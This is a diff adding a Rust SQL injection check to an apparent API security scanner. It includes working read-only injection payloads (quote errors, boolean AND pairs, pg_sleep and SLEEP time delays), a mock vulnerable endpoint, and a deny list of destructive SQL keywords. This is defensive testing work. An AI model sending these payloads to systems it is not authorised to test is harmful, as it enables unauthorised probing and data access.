@@ -1,0 +1,614 @@
+//! SQL injection.
+//!
+//! When an API builds SQL by pasting input into the query text, the input
+//! can end the string or number it was meant to be and add SQL of its own:
+//! read any table, bypass the `WHERE` that limits a caller to their own rows,
+//! and on many databases go further. Rampart proves it three ways, cheapest
+//! first, and only with read-only payloads: a database error that a stray
+//! quote provokes and a doubled quote does not (error-based); a pair of
+//! conditions, `AND 'a'='a'` and `AND 'a'='b'`, that answer like the ordinary
+//! value and like a value that matches nothing (boolean, replayed); and a
+//! database sleep whose length the answer's delay follows (time-based).
+
+use std::sync::Arc;
+
+use async_trait::async_trait;
+
+use super::compare::similar;
+use super::fingerprints::{new_errors, Store, StoreError};
+use super::profile::Profile;
+use super::timing::{self, Delayed};
+use super::{cut_short, probe_inputs, shown, Halt, InputCheck, Payload, Point};
+use crate::checks::{Check, CheckMeta, Mode, ProbeContext, TargetContext};
+use crate::discover::Endpoint;
+use crate::engine::{EngineError, Exchange};
+use crate::facts::Needs;
+use crate::finding::{Category, Confidence, FindingDraft, Severity};
+
+pub struct Sql;
+
+static META: CheckMeta = CheckMeta {
+    id: "injection.sql",
+    category: Category::InputValidation,
+    severity: Severity::Critical,
+    summary: "SQL injection: input that changes the query (error, boolean and time-based proofs)",
+    mode: Mode::Active,
+    min_identities: 0,
+    needs: Needs::RESPONSE_VALUES,
+};
+
+#[async_trait]
+impl Check for Sql {
+    fn meta(&self) -> &'static CheckMeta {
+        &META
+    }
+
+    async fn probe(
+        &self,
+        ctx: &ProbeContext<'_>,
+        endpoint: &Endpoint,
+    ) -> Result<Vec<FindingDraft>, EngineError> {
+        probe_inputs(self, ctx, endpoint).await
+    }
+
+    async fn probe_target(
+        &self,
+        ctx: &TargetContext<'_>,
+    ) -> Result<Vec<FindingDraft>, EngineError> {
+        cut_short(&META, ctx)
+    }
+}
+
+/// How the input sits in the query text.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Context {
+    /// A bare number: `id = 7`.
+    Number,
+    /// A single-quoted string: `title = 'x'`.
+    Quoted,
+    /// A single-quoted string with more query after it than a condition
+    /// can follow (`LIKE '%x%'`, a trailing clause): the rest is commented out.
+    QuotedCommented,
+    /// A double-quoted string (MySQL's other string quote).
+    DoubleQuoted,
+}
+
+impl Context {
+    /// The (true, false) pair of payloads built on `base`.
+    fn pair(self, base: &str) -> (String, String) {
+        match self {
+            Context::Number => (format!("{base} AND 1=1"), format!("{base} AND 1=2")),
+            Context::Quoted => (format!("{base}' AND 'a'='a"), format!("{base}' AND 'a'='b")),
+            Context::QuotedCommented => {
+                (format!("{base}' AND 1=1-- "), format!("{base}' AND 1=2-- "))
+            }
+            Context::DoubleQuoted => (
+                format!("{base}\" AND \"a\"=\"a"),
+                format!("{base}\" AND \"a\"=\"b"),
+            ),
+        }
+    }
+
+    /// A payload that makes `store` sleep for `seconds` once per query
+    /// (an uncorrelated subquery, so not once per row).
+    fn sleep(self, store: Store, base: &str, seconds: &str) -> Option<String> {
+        match (store, self) {
+            (Store::Postgresql, Context::Number) => {
+                Some(format!("{base}+(SELECT 0 FROM pg_sleep({seconds}))"))
+            }
+            (Store::Postgresql, Context::Quoted) => {
+                Some(format!("{base}'||(SELECT '' FROM pg_sleep({seconds}))||'"))
+            }
+            (Store::Mysql, Context::Number) => Some(format!(
+                "{base} AND (SELECT 1 FROM (SELECT SLEEP({seconds}))r)"
+            )),
+            (Store::Mysql, Context::Quoted) => Some(format!(
+                "{base}' AND (SELECT 1 FROM (SELECT SLEEP({seconds}))r) AND 'a'='a"
+            )),
+            _ => None,
+        }
+    }
+}
+
+/// The contexts worth trying for an input, likeliest first.
+fn contexts(numeric: bool) -> &'static [Context] {
+    if numeric {
+        &[Context::Number, Context::Quoted, Context::QuotedCommented]
+    } else {
+        &[
+            Context::Quoted,
+            Context::QuotedCommented,
+            Context::DoubleQuoted,
+        ]
+    }
+}
+
+/// A database error the payload provoked.
+struct ErrorProof {
+    ordinary: Arc<Exchange>,
+    payload: String,
+    broken: Arc<Exchange>,
+    error: StoreError,
+    /// The doubled-quote payload and its clean answer, when it was clean.
+    balanced: Option<(String, Arc<Exchange>)>,
+}
+
+/// A true/false pair that answered like the ordinary and the impossible value.
+struct BooleanProof {
+    context: Context,
+    truthy: String,
+    falsy: String,
+    answers: [Arc<Exchange>; 4],
+}
+
+/// The judgment of a boolean pair: the true payload answers like the
+/// ordinary value, the false one like the impossible value (and not like
+/// the ordinary one).
+fn pair_holds(profile: &Profile, truthy: &Exchange, falsy: &Exchange, sent: &[&str]) -> bool {
+    let mut reflected: Vec<&str> = sent.to_vec();
+    reflected.push(&profile.base_value);
+    reflected.push(&profile.impossible_value);
+    similar(truthy, &profile.base, &reflected)
+        && similar(falsy, &profile.impossible, &reflected)
+        && !similar(falsy, &profile.base, &reflected)
+}
+
+/// The SQL errors of `probe` that the ordinary answer does not show.
+fn sql_errors(ordinary: &Exchange, probe: &Exchange) -> Vec<StoreError> {
+    new_errors(ordinary.body_text(), probe.body_text())
+        .into_iter()
+        .filter(|e| e.store.is_sql())
+        .collect()
+}
+
+async fn error_based(point: &Point<'_, '_>, profile: &Profile) -> Result<Option<ErrorProof>, Halt> {
+    for quote in ["'", "\""] {
+        let payload = format!("{}{quote}", profile.base_value);
+        let Some(broken) = point.send(&Payload::text(payload.clone())).await? else {
+            continue;
+        };
+        let Some(error) = sql_errors(&profile.base, &broken).into_iter().next() else {
+            continue;
+        };
+        let doubled = format!("{}{quote}{quote}", profile.base_value);
+        let balanced = match point.send(&Payload::text(doubled.clone())).await? {
+            Some(answer) if sql_errors(&profile.base, &answer).is_empty() => {
+                Some((doubled, answer))
+            }
+            _ => None,
+        };
+        return Ok(Some(ErrorProof {
+            ordinary: Arc::clone(&profile.base),
+            payload,
+            broken,
+            error,
+            balanced,
+        }));
+    }
+    Ok(None)
+}
+
+async fn boolean_based(
+    point: &Point<'_, '_>,
+    profile: &Profile,
+    numeric: bool,
+) -> Result<Option<BooleanProof>, Halt> {
+    if !profile.informative() {
+        return Ok(None);
+    }
+    for &context in contexts(numeric) {
+        let (truthy, falsy) = context.pair(&profile.base_value);
+        let sent = [truthy.as_str(), falsy.as_str()];
+        let Some(t1) = point.send(&Payload::text(truthy.clone())).await? else {
+            continue;
+        };
+        if !similar(&t1, &profile.base, &[&truthy, &profile.base_value]) {
+            continue;
+        }
+        let Some(f1) = point.send(&Payload::text(falsy.clone())).await? else {
+            continue;
+        };
+        if !pair_holds(profile, &t1, &f1, &sent) {
+            continue;
+        }
+        // Replayed on fresh busters: a flapping or cached answer fails here.
+        let (Some(t2), Some(f2)) = (
+            point.send(&Payload::text(truthy.clone())).await?,
+            point.send(&Payload::text(falsy.clone())).await?,
+        ) else {
+            continue;
+        };
+        if pair_holds(profile, &t2, &f2, &sent) {
+            return Ok(Some(BooleanProof {
+                context,
+                truthy,
+                falsy,
+                answers: [t1, f1, t2, f2],
+            }));
+        }
+    }
+    Ok(None)
+}
+
+async fn time_based(
+    point: &Point<'_, '_>,
+    profile: &Profile,
+    numeric: bool,
+    known: Option<Store>,
+) -> Result<Option<(Store, String, Delayed)>, Halt> {
+    let stores = match known {
+        Some(store @ (Store::Postgresql | Store::Mysql)) => vec![store],
+        Some(_) => return Ok(None),
+        None => vec![Store::Postgresql, Store::Mysql],
+    };
+    let contexts: &[Context] = if numeric {
+        &[Context::Number, Context::Quoted]
+    } else {
+        &[Context::Quoted]
+    };
+    let latencies = profile.latencies();
+    let timeout = point.ctx.engine.timeout();
+    for store in stores {
+        for &context in contexts {
+            let build = |delay| context.sleep(store, &profile.base_value, &timing::seconds(delay));
+            let Some(shape) = build(std::time::Duration::from_secs(1)) else {
+                continue;
+            };
+            let proved = timing::prove(&latencies, timeout, |delay| async move {
+                match build(delay) {
+                    Some(payload) => point.send(&Payload::text(payload)).await,
+                    None => Ok(None),
+                }
+            })
+            .await?;
+            if let Some(delayed) = proved {
+                return Ok(Some((store, shape, delayed)));
+            }
+        }
+    }
+    Ok(None)
+}
+
+fn hinted(
+    mut draft: FindingDraft,
+    error: Option<&StoreError>,
+    store: Option<Store>,
+) -> FindingDraft {
+    if let Some(technology) = store.and_then(Store::technology) {
+        draft = draft.stack_hint(technology);
+    }
+    for also in error.map(|e| e.also.clone()).unwrap_or_default() {
+        draft = draft.stack_hint(also);
+    }
+    draft
+}
+
+#[async_trait]
+impl InputCheck for Sql {
+    fn meta(&self) -> &'static CheckMeta {
+        &META
+    }
+
+    fn wants(&self, _endpoint: &Endpoint, input: &super::Input) -> bool {
+        !input.is_boolean()
+    }
+
+    async fn probe_input(&self, point: &Point<'_, '_>) -> Result<Option<FindingDraft>, Halt> {
+        let profile = point.profile().await?;
+        let numeric = point.input.is_numeric() || profile.base_value.parse::<f64>().is_ok();
+        let label = point.input.label();
+
+        let error = error_based(point, &profile).await?;
+        let confirmed_by_error = error.as_ref().is_some_and(|e| e.balanced.is_some());
+        let boolean = if confirmed_by_error {
+            None
+        } else {
+            boolean_based(point, &profile, numeric).await?
+        };
+        if let Some(proof) = boolean {
+            let store = error.as_ref().map(|e| e.error.store);
+            let [t1, f1, t2, f2] = &proof.answers;
+            let mut draft = point
+                .draft(t1, Severity::Critical, Confidence::Confirmed)
+                .title(format!("SQL injection in {label} (boolean-based)"))
+                .description(format!(
+                    "The {label} is pasted into a SQL query. The condition {} answers like the ordinary value {} \
+                     and {} answers like a value that matches nothing ({}), twice each on fresh cache busters: \
+                     the database evaluates SQL taken from the request ({:?} context). Only `AND` conditions \
+                     were sent; nothing was written.",
+                    shown(&proof.truthy),
+                    shown(&profile.base_value),
+                    shown(&proof.falsy),
+                    shown(&profile.impossible_value),
+                    proof.context,
+                ))
+                .evidence(format!("Ordinary value {}", shown(&profile.base_value)), &profile.base, None)
+                .evidence(
+                    format!("A value that matches nothing, {}", shown(&profile.impossible_value)),
+                    &profile.impossible,
+                    None,
+                )
+                .evidence(format!("True condition {}: same answer as the ordinary value", shown(&proof.truthy)), t1, None)
+                .evidence(format!("False condition {}: same answer as no match", shown(&proof.falsy)), f1, None)
+                .evidence("True condition again, fresh cache buster", t2, None)
+                .evidence("False condition again, fresh cache buster", f2, None);
+            if let Some(error) = &error {
+                draft = draft.evidence(
+                    format!(
+                        "Stray quote {}: {} error",
+                        shown(&error.payload),
+                        error.error.store.name()
+                    ),
+                    &error.broken,
+                    Some(error.error.span.clone()),
+                );
+            }
+            return Ok(Some(hinted(draft, error.as_ref().map(|e| &e.error), store)));
+        }
+        if let Some(proof) = error {
+            let store = proof.error.store;
+            let confidence = if proof.balanced.is_some() {
+                Confidence::Confirmed
+            } else {
+                Confidence::Firm
+            };
+            let mut draft = point
+                .draft(&proof.broken, Severity::Critical, confidence)
+                .title(format!("SQL injection in {label} (error-based, {})", store.name()))
+                .description(format!(
+                    "A stray quote in the {label} ({}) makes the database fail with a {} syntax error that the \
+                     ordinary request does not produce{}: the input is pasted into the query text.",
+                    shown(&proof.payload),
+                    store.name(),
+                    match &proof.balanced {
+                        Some((doubled, _)) => format!(", and the doubled quote {} is accepted again", shown(doubled)),
+                        None => String::new(),
+                    }
+                ))
+                .evidence(format!("Ordinary value {}: no database error", shown(&profile.base_value)), &proof.ordinary, None)
+                .evidence(
+                    format!("Stray quote {}: {} error", shown(&proof.payload), store.name()),
+                    &proof.broken,
+                    Some(proof.error.span.clone()),
+                );
+            if let Some((doubled, answer)) = &proof.balanced {
+                draft = draft.evidence(
+                    format!("Doubled quote {}: no error", shown(doubled)),
+                    answer,
+                    None,
+                );
+            }
+            return Ok(Some(hinted(draft, Some(&proof.error), Some(store))));
+        }
+        let Some((store, shape, delayed)) = time_based(point, &profile, numeric, None).await?
+        else {
+            return Ok(None);
+        };
+        let millis = |d: std::time::Duration| d.as_millis();
+        let draft = point
+            .draft(&delayed.once, Severity::Critical, Confidence::Confirmed)
+            .title(format!("SQL injection in {label} (time-based, {})", store.name()))
+            .description(format!(
+                "A {} sleep placed in the {label} delays the answer by the time asked for: {} ms asked, \
+                 answered after {} ms; twice that asked, answered after {} ms; no sleep, answered after {} ms \
+                 (ordinary answers take about {} ms). The database runs SQL taken from the request. Payload \
+                 shape: {}.",
+                store.name(),
+                millis(delayed.delay),
+                millis(delayed.once.elapsed),
+                millis(delayed.twice.elapsed),
+                millis(delayed.none.elapsed),
+                millis(profile.base.elapsed),
+                shown(&shape),
+            ))
+            .evidence(format!("Ordinary value ({} ms)", millis(profile.base.elapsed)), &profile.base, None)
+            .evidence(
+                format!("Sleep {} ms: answered after {} ms", millis(delayed.delay), millis(delayed.once.elapsed)),
+                &delayed.once,
+                None,
+            )
+            .evidence(
+                format!("Sleep {} ms: answered after {} ms", millis(delayed.delay * 2), millis(delayed.twice.elapsed)),
+                &delayed.twice,
+                None,
+            )
+            .evidence(
+                format!("Sleep 0 ms: answered after {} ms", millis(delayed.none.elapsed)),
+                &delayed.none,
+                None,
+            );
+        Ok(Some(hinted(draft, None, Some(store))))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::checks::injection::testing::{self, Seen};
+    use crate::checks::injection::Settings;
+    use crate::checks::probe::fixtures::exchange;
+
+    const URL: &str = "http://h/api/posts?rampart_cb=1";
+
+    fn profile(base: &str, impossible: &str) -> Profile {
+        Profile {
+            base_value: "Hello".into(),
+            base: exchange(URL, None, 200, &[], base),
+            impossible_value: "zqk1".into(),
+            impossible: exchange(URL, None, 404, &[], impossible),
+        }
+    }
+
+    #[test]
+    fn a_pair_holds_only_when_true_is_ordinary_and_false_is_nothing() {
+        let p = profile(
+            r#"[{"id": 1, "title": "Hello"}]"#,
+            r#"{"error": "not found"}"#,
+        );
+        let data = exchange(URL, None, 200, &[], r#"[{"id": 1, "title": "Hello"}]"#);
+        let nothing = exchange(URL, None, 404, &[], r#"{"error": "not found"}"#);
+        assert!(pair_holds(&p, &data, &nothing, &[]));
+        // Parameterised: both conditions are just strings that match nothing.
+        assert!(!pair_holds(&p, &nothing, &nothing, &[]));
+        // Ignored input (a number parser stopping at the space): both are ordinary.
+        assert!(!pair_holds(&p, &data, &data, &[]));
+        // A reflected payload in the "nothing" answer does not hide the match.
+        let reflected = exchange(
+            URL,
+            None,
+            404,
+            &[],
+            r#"{"error": "not found", "q": "Hello' AND 'a'='b"}"#,
+        );
+        let plain = exchange(
+            URL,
+            None,
+            404,
+            &[],
+            r#"{"error": "not found", "q": "zqk1"}"#,
+        );
+        let p2 = Profile {
+            impossible: plain,
+            ..profile(r#"[{"id": 1, "title": "Hello"}]"#, "")
+        };
+        assert!(pair_holds(
+            &p2,
+            &data,
+            &reflected,
+            &["Hello' AND 'a'='a", "Hello' AND 'a'='b"]
+        ));
+    }
+
+    #[test]
+    fn payloads_only_read() {
+        for &context in contexts(true).iter().chain(contexts(false)) {
+            let (t, f) = context.pair("7");
+            for payload in [t, f] {
+                let upper = payload.to_ascii_uppercase();
+                for word in ["DROP", "DELETE", "UPDATE", "INSERT", " OR ", ";"] {
+                    assert!(!upper.contains(word), "{payload}");
+                }
+            }
+            for store in [Store::Postgresql, Store::Mysql] {
+                if let Some(sleep) = context.sleep(store, "7", "0.4") {
+                    assert!(
+                        !sleep.contains(';') && !sleep.to_ascii_uppercase().contains(" OR "),
+                        "{sleep}"
+                    );
+                }
+            }
+        }
+    }
+
+    /// A tiny SQL "engine" for the in-process API: `title = '<input>'`
+    /// pasted (vulnerable) or bound (fixed), with the stray-quote error a
+    /// real SQLite driver would raise.
+    fn posts(vulnerable: bool) -> impl Fn(&Seen) -> (u16, String) + Send + Sync + 'static {
+        move |seen: &Seen| {
+            let title = seen.arg("title").unwrap_or_default().to_string();
+            let found = |matches: bool| {
+                if matches {
+                    (
+                        200,
+                        r#"[{"id": 1, "title": "Hello", "body": "first post"}]"#.to_string(),
+                    )
+                } else {
+                    (200, "[]".to_string())
+                }
+            };
+            if !vulnerable {
+                return found(title == "Hello");
+            }
+            let quotes = title.matches('\'').count();
+            if quotes % 2 == 1 {
+                return (
+                    500,
+                    format!(
+                        r#"{{"error": "(sqlite3.OperationalError) unrecognized token: \"'\" [SQL: SELECT * FROM posts WHERE title = '{title}']"}}"#
+                    ),
+                );
+            }
+            match title.split_once("' AND '") {
+                Some((value, condition)) => {
+                    let holds = condition == "a'='a";
+                    found(value == "Hello" && holds)
+                }
+                None => found(title.replace("''", "'") == "Hello"),
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn the_pasted_query_is_found_with_few_requests_and_the_bound_one_is_not() {
+        let endpoint = testing::query_endpoint("/api/posts", "title", "Hello");
+        let api = testing::serve(posts(true)).await;
+        let (found, sent) = testing::run(&Sql, &api, &endpoint, Settings::default()).await;
+        let found = found.expect("probed");
+        assert_eq!(found.len(), 1, "{found:#?}");
+        let finding = &found[0];
+        assert_eq!(finding.confidence, Confidence::Confirmed);
+        assert!(
+            finding.title.contains("error-based, SQLite"),
+            "{}",
+            finding.title
+        );
+        assert_eq!(finding.parameter.as_deref(), Some("title"));
+        assert!(finding.stack_hints.contains(&"sqlite".to_string()));
+        assert!(finding
+            .evidence
+            .iter()
+            .any(|e| e.exchange.request.url.contains("Hello%27")));
+        assert!(sent <= 5, "{sent} requests");
+
+        let api = testing::serve(posts(false)).await;
+        let (found, sent) = testing::run(&Sql, &api, &endpoint, Settings::default()).await;
+        assert!(found.expect("probed").is_empty());
+        assert!(sent <= 15, "{sent} requests");
+        // Nothing but reads, and no request without the title.
+        let seen = api.seen.lock().unwrap();
+        assert!(seen
+            .iter()
+            .all(|s| s.method == "GET" && s.arg("title").is_some()));
+    }
+
+    /// Blind: errors are swallowed, only the rows tell.
+    #[tokio::test]
+    async fn a_blind_pasted_query_is_found_by_its_true_false_pair() {
+        let blind = |seen: &Seen| {
+            let (status, body) = posts(true)(seen);
+            if status == 500 {
+                (200, "[]".to_string())
+            } else {
+                (status, body)
+            }
+        };
+        let endpoint = testing::query_endpoint("/api/posts", "title", "Hello");
+        let api = testing::serve(blind).await;
+        let (found, _) = testing::run(&Sql, &api, &endpoint, Settings::default()).await;
+        let found = found.expect("probed");
+        assert_eq!(found.len(), 1);
+        assert!(found[0].title.contains("boolean-based"));
+        assert_eq!(found[0].evidence.len(), 6);
+    }
+
+    #[tokio::test]
+    async fn the_param_budget_bounds_the_requests_per_input() {
+        let endpoint = testing::query_endpoint("/api/posts", "title", "Hello");
+        let api = testing::serve(posts(false)).await;
+        let settings = Settings {
+            param_budget: 2,
+            ..Settings::default()
+        };
+        let (found, sent) = testing::run(&Sql, &api, &endpoint, settings).await;
+        assert!(found.expect("probed").is_empty());
+        // Two for the shared profile (ordinary and impossible), two for the check.
+        assert_eq!(sent, 4);
+        let settings = Settings {
+            scan_budget: 1,
+            ..Settings::default()
+        };
+        let (found, sent) = testing::run(&Sql, &api, &endpoint, settings).await;
+        assert!(found.expect("probed").is_empty());
+        assert_eq!(sent, 1);
+    }
+}
